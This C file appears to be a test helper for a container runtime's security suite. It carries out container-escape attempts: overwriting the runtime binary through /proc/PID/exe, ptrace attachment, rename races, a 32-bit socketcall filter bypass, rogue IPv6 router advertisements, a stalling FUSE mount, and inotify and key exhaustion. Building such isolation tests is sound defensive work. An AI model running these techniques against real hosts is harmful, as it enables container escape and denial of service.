// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * What escapes.bats and hostile.bats run inside: the hostile half of each attack that a
 * shell is too slow for, or cannot do. Static, since it is put into foreign roots.
 *
 *   attacker exe SECONDS        take /proc/PID/exe of whoever comes in, write to it later
 *   attacker trace SECONDS      attach to whoever comes in, and take its descriptors
 *   attacker exchange A B SECONDS    exchange two names without end
 *   attacker vsock SECONDS      open a socket that belongs to no network, in two ways
 *   attacker router SECONDS     say on eth0 that it is a router for everybody
 *   attacker fuse DIRECTORY SECONDS  mount there what answers nothing
 *   attacker deadlock DIRECTORY SECONDS  the same, and look into it
 *   attacker inotify SECONDS    take all inotify instances that there are, and keep them
 *
 *   attacker keys SECONDS       take all keys that there are, and keep them
 *   attacker session 0          how many keys the session keyring lends it
 *   attacker lend COMMAND...    of the host: run it with a key in the session keyring
 *
 * It prints one line for each thing it got, and one for each that it was refused.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <linux/keyctl.h>
#include <linux/mount.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <pthread.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define PIDS_MAX	32768

static time_t deadline;

static bool is_over(void)
{
	return time(NULL) >= deadline;
}

/* Each process that was not there before, once. */
static pid_t next_newcomer(void)
{
	static bool is_known[PIDS_MAX];
	static DIR *proc;
	struct dirent *entry;

	if (!proc)
		proc = opendir("/proc");
	while (proc && (entry = readdir(proc))) {
		int pid = atoi(entry->d_name);

		if (pid <= 0 || pid >= PIDS_MAX || is_known[pid] || pid == getpid())
			continue;
		is_known[pid] = true;
		return pid;
	}
	if (proc)
		rewinddir(proc);
	return 0;
}

/* ---- exe ---- */

static bool is_same(const struct stat *st, const char *path)
{
	struct stat other;

	return stat(path, &other) == 0 && other.st_dev == st->st_dev && other.st_ino == st->st_ino;
}

/* Of a program that the container does not have: the runtime's. */
static int open_foreign_exe(pid_t pid)
{
	char path[40];
	struct stat st;
	int fd;

	(void)snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return -1;
	if (fstat(fd, &st) < 0 || is_same(&st, "/proc/self/exe") || is_same(&st, "/bin/busybox")) {
		(void)close(fd);
		return -1;
	}
	return fd;
}

/* As its mount may be changed by whoever has CAP_SYS_ADMIN where it is mounted. */
static void try_remount(int fd)
{
	struct mount_attr attr = { .attr_clr = MOUNT_ATTR_RDONLY };

	if (syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &attr, sizeof(attr)) == 0)
		printf("remounted it\n");
	fd = (int)syscall(SYS_open_tree, fd, "", AT_EMPTY_PATH | OPEN_TREE_CLONE);
	if (fd >= 0 && syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &attr, sizeof(attr)) == 0)
		printf("cloned and remounted it\n");
}

static void overwrite(int fd)
{
	static const char text[] = "#!/bin/evil\n";
	char path[40];
	int out = -1;

	(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	(void)fchmod(fd, 0777);
	try_remount(fd);
	while (out < 0 && !is_over()) {
		out = open(path, O_WRONLY);
		if (out < 0 && errno != ETXTBSY)
			break;
	}
	if (out < 0)
		printf("refused: %s\n", strerror(errno));
	else if (write(out, text, sizeof(text) - 1) > 0)
		printf("wrote\n");
	else
		printf("refused: %s\n", strerror(errno));
	(void)close(out);
}

static void attack_exe(void)
{
	printf("ready\n");
	while (!is_over()) {
		pid_t pid = next_newcomer();
		int fd = -1, tries;

		/* Before its execve() it is out of reach; the link is that of the new program then. */
		for (tries = 0; pid && fd < 0 && tries < 3000 && !is_over(); tries++)
			fd = open_foreign_exe(pid);
		if (fd < 0)
			continue;
		printf("caught\n");
		overwrite(fd);
		return;
	}
	printf("nothing came\n");
}

/* ---- trace ---- */

static void take_descriptors(pid_t pid)
{
	char path[40], target[300];
	int number;

	for (number = 3; number < 16; number++) {
		ssize_t len;

		(void)snprintf(path, sizeof(path), "/proc/%d/fd/%d", (int)pid, number);
		len = readlink(path, target, sizeof(target) - 1);
		if (len > 0)
			printf("took descriptor %d: %.*s\n", number, (int)len, target);
	}
}

/* Whether it is still the runtime: its name changes with execve(). */
static bool is_runtime(pid_t pid)
{
	char path[40], name[20] = "";
	FILE *file;

	(void)snprintf(path, sizeof(path), "/proc/%d/comm", (int)pid);
	file = fopen(path, "r");
	if (!file)
		return false;
	if (!fgets(name, sizeof(name), file))
		name[0] = '\0';
	(void)fclose(file);
	return strncmp(name, "vps", 3) == 0;
}

static void attach(pid_t pid)
{
	static long refused;

	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0) {
		if (errno == EPERM && ++refused == 1)
			printf("refused: %s\n", strerror(errno));
		return;
	}
	(void)ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
	(void)waitpid(pid, NULL, __WALL);
	if (is_runtime(pid))
		printf("attached to the runtime\n");
	(void)ptrace(PTRACE_DETACH, pid, NULL, NULL);
}

static void attack_trace(void)
{
	printf("ready\n");
	while (!is_over()) {
		pid_t pid = next_newcomer();
		int tries;

		for (tries = 0; pid && tries < 50; tries++) {
			if (is_runtime(pid))
				take_descriptors(pid);
			attach(pid);
		}
	}
}

/* ---- exchange ---- */

static void exchange(const char *a, const char *b)
{
	while (!is_over())
		(void)syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */);
}

/* ---- vsock ---- */

/* As a 32-bit program does it: the family is in memory, where no filter looks. */
static long socket_by_socketcall(void)
{
	uint32_t *args = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
			      MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	long result;

	args[0] = AF_VSOCK;
	args[1] = SOCK_STREAM;
	args[2] = 0;
	__asm__ volatile("int $0x80"
			 : "=a"(result)
			 : "a"(102L), "b"(1L), "c"(args)
			 : "memory", "cc", "r8", "r9", "r10", "r11");
	return result;
}

static void open_vsock(void)
{
	int fd = socket(AF_VSOCK, SOCK_STREAM, 0);
	long result = socket_by_socketcall();

	printf("socket: %s\n", fd < 0 ? strerror(errno) : "opened");
	printf("socketcall: %s\n", result < 0 ? strerror((int)-result) : "opened");
}

/* ---- fuse ---- */

static void *look(void *dir)
{
	char path[300];
	struct stat st;

	(void)snprintf(path, sizeof(path), "%s/x", (const char *)dir);
	(void)stat(path, &st);
	return NULL;
}

/* Agree on the protocol, which the kernel waits for, and let it wait ever after. */
static void mount_silence(char *dir, bool is_deadlock)
{
	static unsigned char request[1 << 20];
	const struct fuse_in_header *head = (struct fuse_in_header *)request;
	struct {
		struct fuse_out_header head;
		struct fuse_init_out   init;
	} answer = { .head.len = sizeof(answer), .init.major = FUSE_KERNEL_VERSION,
		     .init.minor = FUSE_KERNEL_MINOR_VERSION, .init.max_write = 4096 };
	int fd = open("/dev/fuse", O_RDWR);
	char options[80];
	pthread_t thread;

	(void)snprintf(options, sizeof(options),
		       "fd=%d,rootmode=40755,user_id=0,group_id=0,allow_other", fd);
	if (fd < 0 || mount("silence", dir, "fuse", 0, options) < 0 ||
	    read(fd, request, sizeof(request)) < 0) {
		printf("refused: %s\n", strerror(errno));
		return;
	}
	answer.head.unique = head->unique;
	if (write(fd, &answer, sizeof(answer)) > 0)
		printf("mounted\n");
	if (is_deadlock)
		(void)pthread_create(&thread, NULL, look, dir);
	while (!is_over() && read(fd, request, sizeof(request)) > 0)
		printf("was asked\n");
}

/* ---- inotify ---- */

static void take_instances(void)
{
	struct rlimit limit;
	int count = 0;

	if (getrlimit(RLIMIT_NOFILE, &limit) == 0) {
		limit.rlim_cur = limit.rlim_max;
		(void)setrlimit(RLIMIT_NOFILE, &limit);
	}
	while (inotify_init() >= 0)
		count++;
	printf("took %d instances: %s\n", count, strerror(errno));
	while (!is_over())
		(void)usleep(100000);
}

/* ---- router ---- */

/* RFC 4861: for half an hour and before any other, and addresses in 2001:db8:bad::/64. */
static void advertise(void)
{
	struct {
		struct nd_router_advert     router;
		struct nd_opt_prefix_info   prefix;
	} message = {
		.router.nd_ra_type = ND_ROUTER_ADVERT,
		.router.nd_ra_flags_reserved = 0x08,
		.router.nd_ra_router_lifetime = htons(1800),
		.prefix.nd_opt_pi_type = ND_OPT_PREFIX_INFORMATION,
		.prefix.nd_opt_pi_len = sizeof(message.prefix) / 8,
		.prefix.nd_opt_pi_prefix_len = 64,
		.prefix.nd_opt_pi_flags_reserved = ND_OPT_PI_FLAG_ONLINK | ND_OPT_PI_FLAG_AUTO,
		.prefix.nd_opt_pi_valid_time = htonl(3600),
		.prefix.nd_opt_pi_preferred_time = htonl(3600),
	};
	struct sockaddr_in6 all = {
		.sin6_family = AF_INET6,
		.sin6_scope_id = if_nametoindex("eth0"),
	};
	int fd = socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6), hops = 255;

	(void)inet_pton(AF_INET6, "ff02::1", &all.sin6_addr);
	(void)inet_pton(AF_INET6, "2001:db8:bad::", &message.prefix.nd_opt_pi_prefix);
	(void)setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &hops, sizeof(hops));
	while (!is_over()) {	/* its own address is not ready at once */
		if (sendto(fd, &message, sizeof(message), 0, (struct sockaddr *)&all,
			   sizeof(all)) > 0)
			printf("sent\n");
		(void)usleep(200000);
	}
}

static void take_keys(void)
{
	char name[16];
	int count = 0;

	do
		(void)snprintf(name, sizeof(name), "key%d", count++);
	while (syscall(SYS_add_key, "user", name, "x", 1UL, KEY_SPEC_PROCESS_KEYRING) >= 0);
	printf("took %d keys: %s\n", count - 1, strerror(errno));
	while (!is_over())
		(void)sleep(1);
}

static void read_session(void)
{
	int32_t keys[100];
	long len = syscall(SYS_keyctl, KEYCTL_READ, KEY_SPEC_SESSION_KEYRING, keys, sizeof(keys));

	if (len < 0)
		printf("session: %s\n", strerror(errno));
	else
		printf("session: %ld keys\n", len / (long)sizeof(keys[0]));
}

static int lend(char **command)
{
	if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) < 0 ||
	    syscall(SYS_add_key, "user", "secret", "x", 1UL, KEY_SPEC_SESSION_KEYRING) < 0)
		return 1;
	(void)execvp(command[0], command);
	return 1;
}

int main(int argc, char **argv)
{
	if (argc < 3)
		return 2;
	if (strcmp(argv[1], "lend") == 0)
		return lend(argv + 2);
	(void)setvbuf(stdout, NULL, _IOLBF, 0);
	deadline = time(NULL) + atoi(argv[argc - 1]);
	if (strcmp(argv[1], "exe") == 0)
		attack_exe();
	else if (strcmp(argv[1], "trace") == 0)
		attack_trace();
	else if (strcmp(argv[1], "exchange") == 0 && argc == 5)
		exchange(argv[2], argv[3]);
	else if ((strcmp(argv[1], "fuse") == 0 || strcmp(argv[1], "deadlock") == 0) && argc == 4)
		mount_silence(argv[2], *argv[1] == 'd');
	else if (strcmp(argv[1], "vsock") == 0)
		open_vsock();
	else if (strcmp(argv[1], "router") == 0)
		advertise();
	else if (strcmp(argv[1], "inotify") == 0)
		take_instances();
	else if (strcmp(argv[1], "keys") == 0)
		take_keys();
	else if (strcmp(argv[1], "session") == 0)
		read_session();
	else
		return 2;
	return 0;
}
